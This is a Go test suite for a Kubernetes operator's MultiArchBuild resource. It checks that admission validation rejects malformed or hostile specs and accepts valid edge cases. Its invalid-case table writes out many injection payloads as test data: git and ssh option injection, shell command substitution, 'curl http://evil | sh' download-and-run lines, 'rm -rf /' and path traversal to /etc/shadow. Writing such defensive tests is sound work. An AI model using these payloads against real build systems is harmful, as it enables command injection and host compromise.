package v1alpha1_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/util/yaml"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/multiarch-build/multiarch-build-operator/api/v1alpha1"
	"github.com/multiarch-build/multiarch-build-operator/internal/testenv"
)

// valid is the smallest MultiArchBuild the API server accepts. Each admission
// case starts from a fresh copy and breaks one thing.
func valid() map[string]any {
	return map[string]any{
		"apiVersion": "build.multiarch.io/v1alpha1",
		"kind":       "MultiArchBuild",
		"metadata":   map[string]any{"generateName": "adm-", "namespace": "default"},
		"spec": map[string]any{
			"source": map[string]any{
				"git": map[string]any{"url": "https://github.com/example/app.git"},
			},
			"output": map[string]any{"image": "quay.io/example/app"},
		},
	}
}

// set walks path (dot separated) in obj, creating maps, and sets the value.
func set(obj map[string]any, path string, v any) {
	parts := strings.Split(path, ".")
	m := obj
	for _, p := range parts[:len(parts)-1] {
		next, ok := m[p].(map[string]any)
		if !ok {
			next = map[string]any{}
			m[p] = next
		}
		m = next
	}
	m[parts[len(parts)-1]] = v
}

func del(obj map[string]any, path string) {
	parts := strings.Split(path, ".")
	m := obj
	for _, p := range parts[:len(parts)-1] {
		m = m[p].(map[string]any)
	}
	delete(m, parts[len(parts)-1])
}

type admissionCase struct {
	name   string
	mutate func(o map[string]any)
	// field must appear in the error, naming what the user has to fix.
	field string
}

func setTo(path string, v any) func(map[string]any) {
	return func(o map[string]any) { set(o, path, v) }
}

var digest = "sha256:" + strings.Repeat("a", 64)

var invalidCases = []admissionCase{
	// source.git.url
	{"url missing", func(o map[string]any) { del(o, "spec.source.git.url") }, "spec.source.git.url"},
	{"url empty", setTo("spec.source.git.url", ""), "spec.source.git.url"},
	{"url ftp scheme", setTo("spec.source.git.url", "ftp://example.com/app.git"), "spec.source.git.url"},
	{"url file scheme reads the node", setTo("spec.source.git.url", "file:///etc/passwd"), "spec.source.git.url"},
	{"url bare path", setTo("spec.source.git.url", "/srv/git/app.git"), "spec.source.git.url"},
	{"url option injection", setTo("spec.source.git.url", "--upload-pack=touch /tmp/pwned"), "spec.source.git.url"},
	{"url with space", setTo("spec.source.git.url", "https://example.com/my app.git"), "spec.source.git.url"},
	{"url with command substitution", setTo("spec.source.git.url", "https://example.com/$(reboot).git"), "spec.source.git.url"},
	{"url with semicolon", setTo("spec.source.git.url", "https://example.com/app.git;rm"), "spec.source.git.url"},
	{"url with backtick", setTo("spec.source.git.url", "https://example.com/`id`.git"), "spec.source.git.url"},
	{"url with newline", setTo("spec.source.git.url", "https://example.com/app.git\nrm -rf /"), "spec.source.git.url"},
	{"url ext transport runs a command", setTo("spec.source.git.url", "ext::sh -c touch% /tmp/pwned"), "spec.source.git.url"},
	{"url fd transport", setTo("spec.source.git.url", "fd::17"), "spec.source.git.url"},
	{"url with pipe", setTo("spec.source.git.url", "https://example.com/app.git|id"), "spec.source.git.url"},
	{"url with single quote", setTo("spec.source.git.url", "https://example.com/app'.git"), "spec.source.git.url"},
	{"url with redirection", setTo("spec.source.git.url", "https://example.com/app.git>/etc/passwd"), "spec.source.git.url"},
	{"url with Tekton variable", setTo("spec.source.git.url", "https://example.com/$(context.pipelineRun.name).git"), "spec.source.git.url"},
	{"url with homoglyph host", setTo("spec.source.git.url", "https://gіthub.com/example/app.git"), "spec.source.git.url"},
	// source.git.url: option injection in every part git or ssh might see as
	// an argument (the scheme-less forms go to ssh as "user@host").
	{"url ssh option as ssh host", setTo("spec.source.git.url", "ssh://-oProxyCommand=touch%20pwned/app.git"), "spec.source.git.url"},
	{"url ssh option as ssh user", setTo("spec.source.git.url", "ssh://-oProxyCommand=id@example.com/app.git"), "spec.source.git.url"},
	{"url ssh host starting with dash after user", setTo("spec.source.git.url", "ssh://git@-oProxyCommand=id/app.git"), "spec.source.git.url"},
	{"url ssh port starting with dash", setTo("spec.source.git.url", "ssh://git@example.com:-oProxyCommand=id/app.git"), "spec.source.git.url"},
	{"url ssh bracketed host starting with dash", setTo("spec.source.git.url", "ssh://[-oProxyCommand=id]/app.git"), "spec.source.git.url"},
	{"url https host starting with dash", setTo("spec.source.git.url", "https://-example.com/app.git"), "spec.source.git.url"},
	{"url git host starting with dash", setTo("spec.source.git.url", "git://-example.com/app.git"), "spec.source.git.url"},
	{"url http host starting with dash", setTo("spec.source.git.url", "http://--upload-pack=id/app.git"), "spec.source.git.url"},
	{"url scp-like user starting with dash", setTo("spec.source.git.url", "-oProxyCommand@example.com:app.git"), "spec.source.git.url"},
	{"url scp-like host starting with dash", setTo("spec.source.git.url", "git@-oProxyCommand:app.git"), "spec.source.git.url"},
	{"url scp-like path starting with dash", setTo("spec.source.git.url", "git@example.com:--upload-pack=id"), "spec.source.git.url"},
	{"url scp-like path single dash option", setTo("spec.source.git.url", "git@example.com:-u"), "spec.source.git.url"},
	{"url single dash option", setTo("spec.source.git.url", "-u"), "spec.source.git.url"},
	// source.git.url: credentials belong in a Secret, not in the spec (and the
	// step's log, which prints the URL).
	{"url https user and password", setTo("spec.source.git.url", "https://user:pass@github.com/example/app.git"), "spec.source.git.url"},
	{"url https token as user", setTo("spec.source.git.url", "https://ghp_0123456789abcdef@github.com/example/app.git"), "spec.source.git.url"},
	{"url https token as password", setTo("spec.source.git.url", "https://x-access-token:ghs_abcdef@github.com/example/app.git"), "spec.source.git.url"},
	{"url https password only", setTo("spec.source.git.url", "https://:glpat-secret@gitlab.com/example/app.git"), "spec.source.git.url"},
	{"url https empty password", setTo("spec.source.git.url", "https://user:@github.com/example/app.git"), "spec.source.git.url"},
	{"url https credentials with port", setTo("spec.source.git.url", "https://oauth2:token@git.example.com:8443/example/app.git"), "spec.source.git.url"},
	{"url http user and password", setTo("spec.source.git.url", "http://user:pass@127.0.0.1:8080/app.git"), "spec.source.git.url"},
	{"url git protocol with user", setTo("spec.source.git.url", "git://user:pass@example.com/app.git"), "spec.source.git.url"},
	{"url ssh user and password", setTo("spec.source.git.url", "ssh://git:secret@example.com/app.git"), "spec.source.git.url"},
	{"url scp-like user and password", setTo("spec.source.git.url", "git:secret@example.com:app.git"), "spec.source.git.url"},
	// source.git.revision
	{"revision option injection", setTo("spec.source.git.revision", "--upload-pack=evil"), "spec.source.git.revision"},
	{"revision with dot-dot", setTo("spec.source.git.revision", "main..evil"), "spec.source.git.revision"},
	{"revision with space", setTo("spec.source.git.revision", "main branch"), "spec.source.git.revision"},
	{"revision with shell", setTo("spec.source.git.revision", "main;id"), "spec.source.git.revision"},
	{"revision single dash option", setTo("spec.source.git.revision", "-q"), "spec.source.git.revision"},
	{"revision with command substitution", setTo("spec.source.git.revision", "$(id)"), "spec.source.git.revision"},
	{"revision with reflog syntax", setTo("spec.source.git.revision", "main@{1}"), "spec.source.git.revision"},
	{"revision ending in .lock", setTo("spec.source.git.revision", "main.lock"), "spec.source.git.revision"},
	{"revision with newline", setTo("spec.source.git.revision", "main\nid"), "spec.source.git.revision"},
	// source.contextDir
	{"contextDir absolute", setTo("spec.source.contextDir", "/etc"), "spec.source.contextDir"},
	{"contextDir parent", setTo("spec.source.contextDir", "../outside"), "spec.source.contextDir"},
	{"contextDir parent in the middle", setTo("spec.source.contextDir", "src/../../outside"), "spec.source.contextDir"},
	{"contextDir is dot-dot", setTo("spec.source.contextDir", ".."), "spec.source.contextDir"},
	{"contextDir with shell", setTo("spec.source.contextDir", "src;rm -rf /"), "spec.source.contextDir"},
	{"contextDir trailing parent", setTo("spec.source.contextDir", "src/.."), "spec.source.contextDir"},
	{"contextDir dot then parent", setTo("spec.source.contextDir", "./../../etc"), "spec.source.contextDir"},
	{"contextDir home", setTo("spec.source.contextDir", "~/x"), "spec.source.contextDir"},
	{"contextDir glob", setTo("spec.source.contextDir", "src/*"), "spec.source.contextDir"},
	{"contextDir variable", setTo("spec.source.contextDir", "$HOME"), "spec.source.contextDir"},
	{"contextDir backtick", setTo("spec.source.contextDir", "src/`id`"), "spec.source.contextDir"},
	{"contextDir newline", setTo("spec.source.contextDir", "src\n/etc"), "spec.source.contextDir"},
	// strategy.containerfile
	{"containerfile absolute", setTo("spec.strategy.containerfile", "/Containerfile"), "spec.strategy.containerfile"},
	{"containerfile parent", setTo("spec.strategy.containerfile", "../Containerfile"), "spec.strategy.containerfile"},
	{"containerfile trailing parent", setTo("spec.strategy.containerfile", "docker/.."), "spec.strategy.containerfile"},
	{"containerfile command substitution", setTo("spec.strategy.containerfile", "docker/$(id)"), "spec.strategy.containerfile"},
	{"containerfile the pod's shadow file", setTo("spec.strategy.containerfile", "/etc/shadow"), "spec.strategy.containerfile"},
	{"containerfile parent in the middle", setTo("spec.strategy.containerfile", "docker/../../../etc/shadow"), "spec.strategy.containerfile"},
	{"containerfile is dot-dot", setTo("spec.strategy.containerfile", ".."), "spec.strategy.containerfile"},
	{"containerfile empty", setTo("spec.strategy.containerfile", ""), "spec.strategy.containerfile"},
	{"containerfile with pipe", setTo("spec.strategy.containerfile", "Containerfile|id"), "spec.strategy.containerfile"},
	{"containerfile with space", setTo("spec.strategy.containerfile", "Containerfile -f /etc/shadow"), "spec.strategy.containerfile"},
	// platforms
	{"platform unknown", setTo("spec.platforms", []any{"linux/mips"}), "spec.platforms"},
	{"platform without os", setTo("spec.platforms", []any{"arm64"}), "spec.platforms"},
	{"platform windows", setTo("spec.platforms", []any{"windows/amd64"}), "spec.platforms"},
	{"platform duplicate", setTo("spec.platforms", []any{"linux/amd64", "linux/arm64", "linux/amd64"}), "spec.platforms"},
	{"platforms empty", setTo("spec.platforms", []any{}), "spec.platforms"},
	{"platforms too many", setTo("spec.platforms", []any{"linux/amd64", "linux/arm64", "linux/ppc64le", "linux/s390x", "linux/amd64"}), "spec.platforms"},
	// output.image
	{"image missing", func(o map[string]any) { del(o, "spec.output.image") }, "spec.output.image"},
	{"image with digest", setTo("spec.output.image", "quay.io/example/app@"+digest), "spec.output.image"},
	{"image with tag and digest", setTo("spec.output.image", "quay.io/example/app:1.0@"+digest), "spec.output.image"},
	{"image uppercase", setTo("spec.output.image", "quay.io/Example/App"), "spec.output.image"},
	{"image without registry", setTo("spec.output.image", "app"), "spec.output.image"},
	{"image bad tag", setTo("spec.output.image", "quay.io/example/app:bad tag"), "spec.output.image"},
	{"image with scheme", setTo("spec.output.image", "docker://quay.io/example/app"), "spec.output.image"},
	{"image starting with dash", setTo("spec.output.image", "--tls-verify=false"), "spec.output.image"},
	{"image with shell", setTo("spec.output.image", "quay.io/example/app;id"), "spec.output.image"},
	// output.layerCache
	{"layer cache repository with tag", setTo("spec.output.layerCache.repository", "quay.io/example/cache:latest"), "spec.output.layerCache.repository"},
	{"layer cache repository with digest", setTo("spec.output.layerCache.repository", "quay.io/example/cache@"+digest), "spec.output.layerCache.repository"},
	{"layer cache repository without registry", setTo("spec.output.layerCache.repository", "cache"), "spec.output.layerCache.repository"},
	{"layer cache repository as an option", setTo("spec.output.layerCache.repository", "--tls-verify=false"), "spec.output.layerCache.repository"},
	{"layer cache mode unknown", setTo("spec.output.layerCache.mode", "Local"), "spec.output.layerCache.mode"},
	{"image with parent component", setTo("spec.output.image", "quay.io/../app"), "spec.output.image"},
	{"image tag starting with dash", setTo("spec.output.image", "quay.io/example/app:-x"), "spec.output.image"},
	// strategy blocks
	{"strategy type unknown", setTo("spec.strategy.type", "Gradle"), "spec.strategy.type"},
	{"nodejs block with Containerfile", setTo("spec.strategy.nodejs", map[string]any{"installCommand": "npm ci"}), "spec.strategy.nodejs"},
	{"nodejs block with Maven", func(o map[string]any) {
		set(o, "spec.strategy.type", "Maven")
		set(o, "spec.strategy.nodejs", map[string]any{})
	}, "spec.strategy.nodejs"},
	{"maven block with NodeJS", func(o map[string]any) {
		set(o, "spec.strategy.type", "NodeJS")
		set(o, "spec.strategy.maven", map[string]any{})
	}, "spec.strategy.maven"},
	{"maven block with Containerfile", setTo("spec.strategy.maven", map[string]any{"goals": []any{"package"}}), "spec.strategy.maven"},
	// strategy contents
	{"installCommand chained", func(o map[string]any) {
		set(o, "spec.strategy.type", "NodeJS")
		set(o, "spec.strategy.nodejs.installCommand", "npm ci && curl http://evil | sh")
	}, "spec.strategy.nodejs.installCommand"},
	{"installCommand substitution", func(o map[string]any) {
		set(o, "spec.strategy.type", "NodeJS")
		set(o, "spec.strategy.nodejs.installCommand", "npm install $(cat /etc/passwd)")
	}, "spec.strategy.nodejs.installCommand"},
	{"installCommand redirection", func(o map[string]any) {
		set(o, "spec.strategy.type", "NodeJS")
		set(o, "spec.strategy.nodejs.installCommand", "npm ci > /dev/null")
	}, "spec.strategy.nodejs.installCommand"},
	{"installCommand backtick", func(o map[string]any) {
		set(o, "spec.strategy.type", "NodeJS")
		set(o, "spec.strategy.nodejs.installCommand", "npm ci `id`")
	}, "spec.strategy.nodejs.installCommand"},
	{"installCommand quoted shell", func(o map[string]any) {
		set(o, "spec.strategy.type", "NodeJS")
		set(o, "spec.strategy.nodejs.installCommand", "sh -c 'curl evil | sh'")
	}, "spec.strategy.nodejs.installCommand"},
	{"installCommand newline", func(o map[string]any) {
		set(o, "spec.strategy.type", "NodeJS")
		set(o, "spec.strategy.nodejs.installCommand", "npm ci\nid")
	}, "spec.strategy.nodejs.installCommand"},
	{"nodejs image invalid", func(o map[string]any) {
		set(o, "spec.strategy.type", "NodeJS")
		set(o, "spec.strategy.nodejs.image", "Not An Image")
	}, "spec.strategy.nodejs.image"},
	{"maven goal with shell", func(o map[string]any) {
		set(o, "spec.strategy.type", "Maven")
		set(o, "spec.strategy.maven.goals", []any{"package;rm -rf /"})
	}, "spec.strategy.maven.goals"},
	{"maven goal with command substitution", func(o map[string]any) {
		set(o, "spec.strategy.type", "Maven")
		set(o, "spec.strategy.maven.goals", []any{"-Dx=$(id)"})
	}, "spec.strategy.maven.goals"},
	{"maven goal with space", func(o map[string]any) {
		set(o, "spec.strategy.type", "Maven")
		set(o, "spec.strategy.maven.goals", []any{"package -Dexec.executable=sh"})
	}, "spec.strategy.maven.goals"},
	{"maven image with shell", func(o map[string]any) {
		set(o, "spec.strategy.type", "Maven")
		set(o, "spec.strategy.maven.image", "quay.io/example/maven|id")
	}, "spec.strategy.maven.image"},
	{"maven goals empty", func(o map[string]any) {
		set(o, "spec.strategy.type", "Maven")
		set(o, "spec.strategy.maven.goals", []any{})
	}, "spec.strategy.maven.goals"},
	{"build arg name invalid", setTo("spec.strategy.buildArgs", []any{map[string]any{"name": "1BAD", "value": "x"}}), "spec.strategy.buildArgs"},
	{"build arg name with shell", setTo("spec.strategy.buildArgs", []any{map[string]any{"name": "A=$(id)", "value": "x"}}), "spec.strategy.buildArgs"},
	{"build arg name starting with dash", setTo("spec.strategy.buildArgs", []any{map[string]any{"name": "-f", "value": "/etc/shadow"}}), "spec.strategy.buildArgs"},
	{"build arg name with space", setTo("spec.strategy.buildArgs", []any{map[string]any{"name": "A B", "value": "x"}}), "spec.strategy.buildArgs"},
	{"build arg duplicate", setTo("spec.strategy.buildArgs", []any{
		map[string]any{"name": "VERSION", "value": "1"}, map[string]any{"name": "VERSION", "value": "2"},
	}), "spec.strategy.buildArgs"},
	// numbers and durations
	{"runHistoryLimit negative", setTo("spec.runHistoryLimit", int64(-1)), "spec.runHistoryLimit"},
	{"runHistoryLimit too large", setTo("spec.runHistoryLimit", int64(21)), "spec.runHistoryLimit"},
	{"timeout zero", setTo("spec.timeout", "0s"), "spec.timeout"},
	{"timeout negative", setTo("spec.timeout", "-5m"), "spec.timeout"},
	{"timeout not a duration", setTo("spec.timeout", "soon"), "spec.timeout"},
	{"timeout with days", setTo("spec.timeout", "1d"), "spec.timeout"},
	// workspace and capacity
	{"storageClassName invalid", setTo("spec.workspace.storageClassName", "EFS_CSI"), "spec.workspace.storageClassName"},
	{"workspace size zero", setTo("spec.workspace.size", "0"), "spec.workspace.size"},
	{"workspace size negative", setTo("spec.workspace.size", "-1Gi"), "spec.workspace.size"},
	{"capacity policy unknown", setTo("spec.capacity.policy", "Sometimes"), "spec.capacity.policy"},
	{"instance type for unknown arch", setTo("spec.capacity.instanceTypes", map[string]any{"mips": "m6g.2xlarge"}), "spec.capacity.instanceTypes"},
	{"instance type malformed", setTo("spec.capacity.instanceTypes", map[string]any{"arm64": "m6g 2xlarge"}), "spec.capacity.instanceTypes"},
	// other fields
	{"name longer than a label value", func(o map[string]any) {
		set(o, "metadata.name", strings.Repeat("a", 64))
		del(o, "metadata.generateName")
	}, "metadata.name"},
	{"builderImage invalid", setTo("spec.builderImage", "buildah; rm -rf /"), "spec.builderImage"},
	{"serviceAccountName invalid", setTo("spec.serviceAccountName", "Bad_Name"), "spec.serviceAccountName"},
	{"builderImage option", setTo("spec.builderImage", "--privileged"), "spec.builderImage"},
	{"builderImage command substitution", setTo("spec.builderImage", "quay.io/$(id)/buildah"), "spec.builderImage"},
	{"serviceAccountName path", setTo("spec.serviceAccountName", "../default"), "spec.serviceAccountName"},
	{"serviceAccountName starting with dash", setTo("spec.serviceAccountName", "-builder"), "spec.serviceAccountName"},
	{"storageClassName with shell", setTo("spec.workspace.storageClassName", "efs;id"), "spec.workspace.storageClassName"},
	{"instance type with shell", setTo("spec.capacity.instanceTypes", map[string]any{"arm64": "m6g.2xlarge;id"}), "spec.capacity.instanceTypes"},
	{"timeout with shell", setTo("spec.timeout", "1h;id"), "spec.timeout"},
}

var env *testenv.Env
var k8s client.Client

func TestMain(m *testing.M) {
	var err error
	env, err = testenv.StartE(testenv.Ours)
	if err != nil {
		fmt.Fprintln(os.Stderr, "admission tests need a real API server:", err)
		os.Exit(1)
	}
	s := runtime.NewScheme()
	_ = v1alpha1.AddToScheme(s)
	k8s, err = client.New(env.Config, client.Options{Scheme: s})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	code := m.Run()
	_ = env.Stop()
	os.Exit(code)
}

func TestAdmissionRejectsInvalidSpecsNamingTheField(t *testing.T) {
	ctx := context.Background()
	rejected := 0
	for _, tc := range invalidCases {
		t.Run(tc.name, func(t *testing.T) {
			o := valid()
			tc.mutate(o)
			u := &unstructured.Unstructured{Object: o}
			err := k8s.Create(ctx, u)
			if err == nil {
				t.Fatalf("accepted an invalid MultiArchBuild: %v", o["spec"])
			}
			if !apierrors.IsInvalid(err) {
				t.Fatalf("want an Invalid error, got %v", err)
			}
			if !strings.Contains(err.Error(), tc.field) {
				t.Fatalf("error does not name %s: %v", tc.field, err)
			}
			t.Logf("rejected: %v", err)
			rejected++
		})
	}
	if len(invalidCases) < 100 {
		t.Errorf("only %d admission cases; the suite promises at least 100", len(invalidCases))
	}
	t.Logf("admission: %d of %d invalid or hostile MultiArchBuilds rejected with their field named", rejected, len(invalidCases))
	fmt.Printf("SUMMARY: admission: %d of %d invalid or hostile MultiArchBuilds rejected with their field named\n", rejected, len(invalidCases))
}

// TestCustomMessagesNameFieldAndFix checks the messages we wrote ourselves, not
// only the API server's field path.
func TestCustomMessagesNameFieldAndFix(t *testing.T) {
	ctx := context.Background()
	for _, tc := range []struct {
		path, value, want string
	}{
		{"spec.output.image", "quay.io/example/app@" + digest, "the pushed digest is reported in status.digest"},
		{"spec.source.contextDir", "../x", "'..' is not allowed"},
		{"spec.source.git.url", "ftp://example.com/x", "https://, http://, ssh:// or git://"},
		{"spec.timeout", "0s", "positive duration"},
		{"spec.source.git.url", "https://user:token@github.com/example/app.git", "spec.source.git.secretRef"},
		{"spec.source.git.url", "https://token@github.com/example/app.git", "must not embed credentials"},
		{"spec.source.git.url", "ssh://-oProxyCommand=id/app.git", "must not start with '-'"},
		{"spec.source.git.url", "git@example.com:-u", "command-line option"},
	} {
		o := valid()
		set(o, tc.path, tc.value)
		err := k8s.Create(ctx, &unstructured.Unstructured{Object: o})
		if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), tc.path) {
			t.Errorf("%s=%q: want an error naming the field and saying %q, got %v", tc.path, tc.value, tc.want, err)
		}
	}
}

func TestAdmissionAcceptsValidEdgeCases(t *testing.T) {
	ctx := context.Background()
	for _, tc := range []struct {
		name   string
		mutate func(map[string]any)
	}{
		{"scp-like url", setTo("spec.source.git.url", "git@github.com:example/app.git")},
		{"ssh url with port", setTo("spec.source.git.url", "ssh://git@example.com:2222/app.git")},
		{"git url", setTo("spec.source.git.url", "git://127.0.0.1/app.git")},
		{"scp-like url with org and dashes", setTo("spec.source.git.url", "git@git-host.example.com:my-org/my-repo.git")},
		{"ssh url with user", setTo("spec.source.git.url", "ssh://git@github.com/example/app.git")},
		{"ssh url with bracketed IPv6 host", setTo("spec.source.git.url", "ssh://git@[::1]:2222/app.git")},
		{"https url without credentials", setTo("spec.source.git.url", "https://git.example.com:8443/my-org/my-repo.git")},
		{"http url to a local server", setTo("spec.source.git.url", "http://127.0.0.1:8080/public/app.git")},
		{"dash at the start of a path segment", setTo("spec.source.git.url", "https://github.com/example/-app.git")},
		{"at sign in the path, not the authority", setTo("spec.source.git.url", "https://example.com/org/app@v1.git")},
		{"scp-like path with a dash inside", setTo("spec.source.git.url", "git@example.com:org/-app.git")},
		{"contextDir with a dash inside", setTo("spec.source.contextDir", "my-app")},
		{"nested contextDir with dashes", setTo("spec.source.contextDir", "apps/my-app/src")},
		{"containerfile with dashes", setTo("spec.strategy.containerfile", "docker/my-app.Containerfile")},
		{"registry with port and tag", setTo("spec.output.image", "127.0.0.1:5000/e2e/app:v1.2.3")},
		{"nested repository", setTo("spec.output.image", "quay.io/org/team/app_name-x:latest")},
		{"layer cache in a repository with a port", setTo("spec.output.layerCache.repository", "127.0.0.1:5000/e2e/app-cache")},
		{"layer cache disabled", setTo("spec.output.layerCache.mode", "Disabled")},
		{"commit sha revision", setTo("spec.source.git.revision", "3b11df8a0c3e0f1f5b1b2d5e1f0a9c8b7d6e5f4a")},
		{"tag revision", setTo("spec.source.git.revision", "refs/tags/v1.0.0")},
		{"dot dot inside a name is fine", setTo("spec.source.contextDir", "src/my..dir")},
		{"four platforms", setTo("spec.platforms", []any{"linux/amd64", "linux/arm64", "linux/ppc64le", "linux/s390x"})},
		{"timeout composite", setTo("spec.timeout", "1h30m")},
		{"runHistoryLimit zero", setTo("spec.runHistoryLimit", int64(0))},
		{"installCommand yarn", func(o map[string]any) {
			set(o, "spec.strategy.type", "NodeJS")
			set(o, "spec.strategy.nodejs.installCommand", "yarn install --frozen-lockfile")
		}},
		{"maven goals with properties", func(o map[string]any) {
			set(o, "spec.strategy.type", "Maven")
			set(o, "spec.strategy.maven.goals", []any{"package", "-DskipTests", "-Dquarkus.package.jar.type=uber-jar"})
		}},
		{"build arg with spaces in value", setTo("spec.strategy.buildArgs", []any{map[string]any{"name": "GREETING", "value": "hello world; $(not a shell)"}})},
	} {
		t.Run(tc.name, func(t *testing.T) {
			o := valid()
			tc.mutate(o)
			if err := k8s.Create(ctx, &unstructured.Unstructured{Object: o}); err != nil {
				t.Fatalf("rejected a valid MultiArchBuild: %v", err)
			}
		})
	}
}

func loadSamples(t *testing.T) []*v1alpha1.MultiArchBuild {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(testenv.RepoRoot(), "config", "samples", "build_v1alpha1_multiarchbuild_*.yaml"))
	if err != nil || len(files) < 4 {
		t.Fatalf("want at least 4 samples, found %v (%v)", files, err)
	}
	var out []*v1alpha1.MultiArchBuild
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		b := &v1alpha1.MultiArchBuild{}
		if err := yaml.UnmarshalStrict(data, b); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		out = append(out, b)
	}
	return out
}

func TestSamplesAreAccepted(t *testing.T) {
	ctx := context.Background()
	for _, b := range loadSamples(t) {
		b.Namespace = "default"
		b.Name = "sample-" + b.Name
		if err := k8s.Create(ctx, b); err != nil {
			t.Errorf("sample %s rejected: %v", b.Name, err)
		}
	}
}

func TestDefaultsAreVisibleWhenReadBack(t *testing.T) {
	ctx := context.Background()
	u := &unstructured.Unstructured{Object: valid()}
	if err := k8s.Create(ctx, u); err != nil {
		t.Fatal(err)
	}
	got := &v1alpha1.MultiArchBuild{}
	if err := k8s.Get(ctx, client.ObjectKey{Namespace: "default", Name: u.GetName()}, got); err != nil {
		t.Fatal(err)
	}
	s := got.Spec
	checks := []struct {
		field     string
		got, want any
	}{
		{"source.git.revision", s.Source.Git.Revision, "main"},
		{"source.contextDir", s.Source.ContextDir, "."},
		{"strategy.type", s.Strategy.Type, v1alpha1.StrategyContainerfile},
		{"strategy.containerfile", s.Strategy.Containerfile, "Containerfile"},
		{"platforms", fmt.Sprint(s.Platforms), "[linux/amd64 linux/arm64]"},
		{"workspace.storageClassName", s.Workspace.StorageClassName, "efs-csi"},
		{"workspace.size", quantityString(s.Workspace.Size), "10Gi"},
		{"capacity.policy", s.Capacity.Policy, v1alpha1.CapacityManaged},
		{"timeout", s.Timeout, "1h"},
		{"runHistoryLimit", int32Value(s.RunHistoryLimit), int32(3)},
	}
	for _, c := range checks {
		if c.got != c.want {
			t.Errorf("default of spec.%s: got %v, want %v", c.field, c.got, c.want)
		}
	}

	// Strategy blocks get their own defaults when present.
	o := valid()
	set(o, "spec.strategy.type", "Maven")
	set(o, "spec.strategy.maven", map[string]any{})
	mu := &unstructured.Unstructured{Object: o}
	if err := k8s.Create(ctx, mu); err != nil {
		t.Fatal(err)
	}
	mb := &v1alpha1.MultiArchBuild{}
	if err := k8s.Get(ctx, client.ObjectKey{Namespace: "default", Name: mu.GetName()}, mb); err != nil {
		t.Fatal(err)
	}
	if m := mb.Spec.Strategy.Maven; m == nil || m.Image != "registry.access.redhat.com/ubi9/openjdk-21" || fmt.Sprint(m.Goals) != "[package -DskipTests]" {
		t.Errorf("maven defaults not applied: %+v", mb.Spec.Strategy.Maven)
	}
}

func quantityString(q *resource.Quantity) string {
	if q == nil {
		return "<nil>"
	}
	return q.String()
}

func int32Value(p *int32) any {
	if p == nil {
		return nil
	}
	return *p
}

// TestEveryFieldIsExplained walks the CRD schema: kubectl explain shows each
// property's description, so none may be empty.
func TestEveryFieldIsExplained(t *testing.T) {
	crds, err := testenv.LoadCRDs(testenv.Ours)
	if err != nil {
		t.Fatal(err)
	}
	var crd *apiextensionsv1.CustomResourceDefinition
	for _, c := range crds {
		if c.Name == "multiarchbuilds.build.multiarch.io" {
			crd = c
		}
	}
	if crd == nil {
		t.Fatal("MultiArchBuild CRD not found in config/crd/bases")
	}
	if crd.Spec.Names.ShortNames[0] != "mab" {
		t.Errorf("short name: %v", crd.Spec.Names.ShortNames)
	}
	v := crd.Spec.Versions[0]
	if v.Subresources == nil || v.Subresources.Status == nil {
		t.Error("status subresource missing")
	}
	var cols []string
	for _, c := range v.AdditionalPrinterColumns {
		name := c.Name
		if c.Priority > 0 {
			name += "(wide)" // kubectl get -o wide only
		}
		cols = append(cols, name)
	}
	if got := strings.Join(cols, ","); got != "Phase,Image,Digest,Platforms,Build-Seconds(wide),Run(wide),Age" {
		t.Errorf("printer columns: %s", got)
	}
	count := 0
	var walk func(path string, s apiextensionsv1.JSONSchemaProps)
	walk = func(path string, s apiextensionsv1.JSONSchemaProps) {
		for name, p := range s.Properties {
			fp := path + "." + name
			if strings.HasPrefix(fp, ".metadata") || strings.HasPrefix(fp, ".apiVersion") || strings.HasPrefix(fp, ".kind") {
				continue
			}
			count++
			if strings.TrimSpace(p.Description) == "" {
				t.Errorf("%s has no description for kubectl explain", fp)
			}
			walk(fp, p)
			if p.Items != nil && p.Items.Schema != nil {
				walk(fp+"[]", *p.Items.Schema)
			}
		}
	}
	walk("", *v.Schema.OpenAPIV3Schema)
	if count < 40 {
		t.Errorf("walked only %d fields; the schema looks truncated", count)
	}
}

// TestTypedRoundTripKeepsTheGeneration guards against a needless rebuild: a Go
// client that reads and writes back an unchanged MultiArchBuild must not alter
// the spec (metav1.Duration would have turned "30m" into "30m0s").
func TestTypedRoundTripKeepsTheGeneration(t *testing.T) {
	ctx := context.Background()
	o := valid()
	set(o, "spec.timeout", "30m")
	u := &unstructured.Unstructured{Object: o}
	if err := k8s.Create(ctx, u); err != nil {
		t.Fatal(err)
	}
	key := client.ObjectKey{Namespace: "default", Name: u.GetName()}
	b := &v1alpha1.MultiArchBuild{}
	if err := k8s.Get(ctx, key, b); err != nil {
		t.Fatal(err)
	}
	gen := b.Generation
	if err := k8s.Update(ctx, b); err != nil {
		t.Fatal(err)
	}
	if err := k8s.Get(ctx, key, b); err != nil {
		t.Fatal(err)
	}
	if b.Generation != gen || b.Spec.Timeout != "30m" {
		t.Errorf("typed round trip changed the spec: generation %d -> %d, timeout %q", gen, b.Generation, b.Spec.Timeout)
	}
}
